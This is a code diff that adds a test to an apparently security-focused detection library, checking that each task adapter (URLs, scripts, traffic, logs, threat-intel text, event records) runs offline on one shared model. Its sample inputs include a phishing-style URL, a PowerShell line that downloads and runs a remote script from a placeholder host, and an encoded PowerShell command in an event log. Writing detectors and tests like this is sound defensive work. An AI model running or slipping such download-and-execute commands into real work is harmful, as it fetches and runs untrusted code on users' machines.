@@ -68,3 +68,36 @@ def test_shipped_int8_graph_agrees_with_the_weights(det):
     assert [r.label for r in a] == [r.label for r in b]
     assert [r.attack_type for r in a] == [r.attack_type for r in b]
     assert max(abs(x.score - y.score) for x, y in zip(a, b)) < 0.05
+
+
+_TASK_SAMPLES = {
+    "url": ["http://paypal.com.secure-login.verify-account.tk/signin", "https://www.wikipedia.org/wiki/Main_Page"],
+    "script": ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "Get-ChildItem C:\\\\Temp"],
+    "traffic": ["16 03 01 02 00 01 00 01 fc 03 03 5a 1b", "47 45 54 20 2f 20 48 54 54 50 2f 31 2e 31"],
+    "log-hdfs": ["5 22 11 9 11 9 26 26 26", "5 5 22 7 13"],
+    "log-bgl": ["RAS KERNEL INFO generating core.2275", "RAS KERNEL FATAL data TLB error interrupt"],
+    "cti-attack": ["The actor used spearphishing attachments to deliver a macro-enabled document."],
+    "evtx-tactic": ['<Event><System><EventID>4688</EventID></System><EventData><Data Name="CommandLine">'
+                    'powershell -enc SQBFAFgA</Data></EventData></Event>'],
+}
+
+
+def test_every_task_ships_offline_on_one_base():
+    """The package carries an adapter for every registered task, on one shared base, and each one
+    judges its own kind of input offline (accuracy: benchmarks/tasks.py)."""
+    from secllm.detect.generic import TaskDetector
+    from secllm.paths import DEFAULT_TASKS_DIR
+    from secllm.tasks.adapt import MultiTaskModel
+    from secllm.tasks.registry import list_tasks
+
+    tasks = sorted(t for t in list_tasks() if t != "web-attack")
+    assert sorted(p.name for p in (DEFAULT_TASKS_DIR / "adapters").iterdir()) == tasks
+    assert set(_TASK_SAMPLES) == set(tasks)
+    size = sum(p.stat().st_size for d in (DEFAULT_MODEL_DIR, DEFAULT_TASKS_DIR) for p in d.rglob("*") if p.is_file())
+    assert size < 64 * 2**20
+    shared = MultiTaskModel(DEFAULT_TASKS_DIR)
+    for t in tasks:
+        det = TaskDetector.load(DEFAULT_TASKS_DIR, task=t, shared=shared)
+        res = det.detect(_TASK_SAMPLES[t])
+        assert all(r.status == "ok" and r.label is not None for r in res), (t, res)
+    assert shared.base_loads == 1
